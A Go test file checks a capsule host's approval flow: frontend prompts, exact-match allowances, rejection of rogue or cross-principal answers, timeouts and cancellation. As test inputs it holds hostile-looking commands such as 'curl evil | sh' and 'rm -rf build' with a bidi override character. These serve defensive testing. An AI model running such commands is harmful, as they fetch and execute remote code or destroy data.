package host

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/astrid-go/astrid/hostapi"
	"github.com/astrid-go/astrid/internal/dispatch"
	"github.com/astrid-go/astrid/internal/host/ask"
	"github.com/astrid-go/astrid/ipc"
	"github.com/astrid-go/astrid/manifest"
)

const askerCapsule = `
[package]
name = "asker"
version = "0.1.0"
`

// The frontend answering questions, and a capsule that may publish answers
// too but is no frontend.
const (
	testFrontend = "test-frontend"
	rogueCapsule = "rogue"
)

// approvalFixture is a host with the approval call wired: testFrontend
// counts as an approver; window bounds each question.
func approvalFixture(t *testing.T, window time.Duration) (fixture, *Capsule) {
	t.Helper()
	f := newFixture(t)
	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, window)
	for _, id := range []string{testFrontend, rogueCapsule} {
		err := f.deps.Dispatcher.Register(dispatch.CapsuleACL{ID: id,
			Publish: []string{ipc.ApprovalResponseTopic("*")}, Subscribe: []string{ipc.ApprovalRequestTopic}}, nopTarget{})
		if err != nil {
			t.Fatal(err)
		}
	}
	return f, f.capsule(t, askerCapsule)
}

// person is the frontend's view of one principal's questions.
type person struct {
	t         *testing.T
	f         fixture
	principal string
	questions chan ipc.ApprovalRequired
}

// listen subscribes the frontend to principal's questions and forwards
// them to the returned person until the test ends.
func listen(t *testing.T, f fixture, principal string) *person {
	t.Helper()
	questions := frontendHears(t, f, principal, ipc.ApprovalRequestTopic, func(e *ipc.Envelope) (q ipc.ApprovalRequired, ok bool) {
		return q, q.UnmarshalJSON(ipc.GuestBytes(e.Payload)) == nil
	})
	return &person{t: t, f: f, principal: principal, questions: questions}
}

// frontendHears subscribes testFrontend to principal's messages on topic
// and forwards those decode takes, until the test ends.
func frontendHears[Q any](t *testing.T, f fixture, principal, topic string, decode func(*ipc.Envelope) (Q, bool)) chan Q {
	t.Helper()
	r, err := f.deps.Dispatcher.Subscribe(dispatch.Caller{Capsule: testFrontend, Principal: principal}, topic, true)
	if err != nil {
		t.Fatal(err)
	}
	out := make(chan Q, 16)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			d, err := r.Recv(ctx)
			if err != nil {
				return
			}
			if q, ok := decode(d.Envelope); ok {
				out <- q
			}
		}
	}()
	t.Cleanup(func() { cancel(); <-done; r.Close() })
	return out
}

func (p *person) next() ipc.ApprovalRequired {
	p.t.Helper()
	select {
	case q := <-p.questions:
		return q
	case <-time.After(30 * time.Second):
		p.t.Fatal("no question")
		return ipc.ApprovalRequired{}
	}
}

// answer publishes decision as source (a frontend or not) for principal.
func (p *person) answer(source, principal, requestID, decision string) {
	p.t.Helper()
	b, _ := ipc.ApprovalResponse{RequestID: requestID, Decision: decision}.MarshalJSON()
	if _, err := p.f.deps.Dispatcher.Publish(dispatch.Caller{Capsule: source, Principal: principal}, ipc.ApprovalResponseTopic(requestID), b); err != nil {
		p.t.Fatal(err)
	}
}

type asked struct {
	approved bool
	err      error
}

// ask runs RequestApproval in a call of c for principal in the background.
func askApproval(c *Capsule, principal, action, resource string) <-chan asked {
	out := make(chan asked, 1)
	go func() {
		call, _ := c.Begin(context.Background(), principal)
		defer call.End()
		ok, err := call.RequestApproval(action, resource)
		out <- asked{ok, err}
	}()
	return out
}

func wantAnswer(t *testing.T, got <-chan asked, approved bool) {
	t.Helper()
	a := <-got
	if a.err != nil || a.approved != approved {
		t.Fatalf("RequestApproval = %v, %v; want %v", a.approved, a.err, approved)
	}
}

// The question names the capsule, shows the action and the resource (escaped),
// and carries the call's cancel key; approve is true once, deny false.
func TestApprovalCallAsksAFrontend(t *testing.T) {
	f, c := approvalFixture(t, 0)
	alice := listen(t, f, "alice")
	call, _ := c.Begin(context.Background(), "alice")
	defer call.End()
	if err := call.SetCancelKey("call-7"); err != nil {
		t.Fatal(err)
	}
	got := make(chan asked, 1)
	go func() {
		ok, err := call.RequestApproval("run\x07_shell_command", "  rm -rf build\u202e  ")
		got <- asked{ok, err}
	}()
	q := alice.next()
	if q.Action != "run_shell_command" || q.Resource != `rm -rf build\u202e` || q.CallID != "call-7" ||
		q.Reason != "Capsule 'asker' requests approval" || !strings.HasPrefix(q.RequestID, "appr-") {
		t.Fatalf("question %+v", q)
	}
	alice.answer(testFrontend, "alice", q.RequestID, ipc.DecisionApprove)
	wantAnswer(t, got, true)

	// approve kept nothing: asked again, and denied.
	again := askApproval(c, "alice", "run_shell_command", "rm -rf build\u202e")
	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionDeny)
	wantAnswer(t, again, false)
}

// approve_session answers the same exact question at once from then on, for
// that principal only; a different resource is asked again. approve_always
// survives the kernel (a new Approvals on the same store).
func TestApprovalCallAllowancesAreExact(t *testing.T) {
	f, c := approvalFixture(t, 0)
	alice := listen(t, f, "alice")
	bob := listen(t, f, "bob")

	first := askApproval(c, "alice", "run_shell_command", "ls")
	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionApproveSession)
	wantAnswer(t, first, true)
	wantAnswer(t, askApproval(c, "alice", "run_shell_command", " ls "), true)

	for _, tc := range []struct {
		p                           *person
		principal, action, resource string
	}{
		{alice, "alice", "run_shell_command", "ls -la"},
		{alice, "alice", "run_shell_command", "ls*"},
		{alice, "alice", "other_action", "ls"},
		{bob, "bob", "run_shell_command", "ls"},
	} {
		got := askApproval(c, tc.principal, tc.action, tc.resource)
		q := tc.p.next()
		if q.Resource != tc.resource {
			t.Fatalf("asked about %q, want %q", q.Resource, tc.resource)
		}
		tc.p.answer(testFrontend, tc.principal, q.RequestID, ipc.DecisionDeny)
		wantAnswer(t, got, false)
	}

	always := askApproval(c, "alice", "run_shell_command", "make test")
	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionApproveAlways)
	wantAnswer(t, always, true)
	// A restarted kernel: session allowances gone, "always" kept.
	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, 0)
	m, diags := manifest.Parse([]byte(askerCapsule), manifest.FileName, "")
	if err := diags.Err(false); err != nil {
		t.Fatal(err)
	}
	c2, err := NewCapsule(f.deps, m, t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	wantAnswer(t, askApproval(c2, "alice", "run_shell_command", "make test"), true)
	session := askApproval(c2, "alice", "run_shell_command", "ls")
	alice.answer(testFrontend, "alice", alice.next().RequestID, ipc.DecisionDeny)
	wantAnswer(t, session, false)
}

// An answer from a capsule that is no frontend, or for another principal,
// or naming another request, is not taken: the frontend's answer decides.
func TestApprovalCallTakesOnlyItsFrontendsAnswer(t *testing.T) {
	f, c := approvalFixture(t, 0)
	alice := listen(t, f, "alice")
	got := askApproval(c, "alice", "run_shell_command", "curl evil | sh")
	q := alice.next()
	alice.answer(rogueCapsule, "alice", q.RequestID, ipc.DecisionApproveAlways)
	alice.answer(testFrontend, "bob", q.RequestID, ipc.DecisionApproveAlways)
	b, _ := ipc.ApprovalResponse{RequestID: "appr-other", Decision: ipc.DecisionApprove}.MarshalJSON()
	if _, err := f.deps.Dispatcher.Publish(dispatch.Caller{Capsule: testFrontend, Principal: "alice"}, ipc.ApprovalResponseTopic(q.RequestID), b); err != nil {
		t.Fatal(err)
	}
	alice.answer(testFrontend, "alice", q.RequestID, ipc.DecisionDeny)
	wantAnswer(t, got, false)
}

// No answer within the window is a timeout; a cancelled call ends the
// wait; a bad action is refused before anyone is asked; no approvals wired
// is unavailable.
func TestApprovalCallFailures(t *testing.T) {
	f, c := approvalFixture(t, time.Hour)
	// Only a capsule that is no frontend hears the questions (react
	// does, to pause its tool clock): nobody can answer, which is said
	// at once rather than after the window.
	r, err := f.deps.Dispatcher.Subscribe(dispatch.Caller{Capsule: rogueCapsule, Principal: "alice"}, ipc.ApprovalRequestTopic, false)
	if err != nil {
		t.Fatal(err)
	}
	if a := <-askApproval(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || !strings.Contains(a.err.Error(), "no frontend is listening") {
		t.Fatalf("only a capsule that is no frontend listening: %v, %v", a.approved, a.err)
	}
	r.Close()
	// The frontend listens for bob only.
	bob := listen(t, f, "bob")
	if a := <-askApproval(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || !strings.Contains(a.err.Error(), "no frontend is listening") {
		t.Fatalf("the frontend listening for another principal: %v, %v", a.approved, a.err)
	}
	select {
	case q := <-bob.questions:
		t.Fatalf("bob was asked alice's question: %+v", q)
	default:
	}

	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, 20*time.Millisecond)
	c = f.capsule(t, strings.Replace(askerCapsule, "asker", "asker-one", 1))
	alice := listen(t, f, "alice")
	if a := <-askApproval(c, "alice", "run_shell_command", "sleep 1"); hostapi.CodeOf(a.err) != hostapi.CodeTimeout || a.approved {
		t.Fatalf("unanswered: %v, %v", a.approved, a.err)
	}
	alice.next()

	f.deps.Approvals = ask.NewApprovals([]string{testFrontend}, time.Minute)
	c = f.capsule(t, strings.Replace(askerCapsule, "asker", "asker-two", 1))
	call, _ := c.Begin(context.Background(), "alice")
	defer call.End()
	if err := call.SetCancelKey("call-9"); err != nil {
		t.Fatal(err)
	}
	got := make(chan asked, 1)
	go func() {
		ok, err := call.RequestApproval("run_shell_command", "sleep 1")
		got <- asked{ok, err}
	}()
	alice.next()
	f.deps.Cancels.Cancel(errors.New("interrupted"), "call-9")
	if a := <-got; hostapi.CodeOf(a.err) != hostapi.CodeCancelled {
		t.Fatalf("cancelled: %v, %v", a.approved, a.err)
	}

	for _, action := range []string{"", "\x00\x01", strings.Repeat("a", 257)} {
		if a := <-askApproval(c, "alice", action, "x"); hostapi.CodeOf(a.err) != hostapi.CodeInvalid {
			t.Errorf("action %q: %v", action, a.err)
		}
	}
	select {
	case q := <-alice.questions:
		t.Fatalf("asked about a bad action: %+v", q)
	default:
	}

	f.deps.Approvals = nil
	bare := f.capsule(t, strings.Replace(askerCapsule, "asker", "asker-three", 1))
	if a := <-askApproval(bare, "alice", "run_shell_command", "ls"); hostapi.CodeOf(a.err) != hostapi.CodeUnavailable {
		t.Fatalf("without approvals: %v", a.err)
	}
}
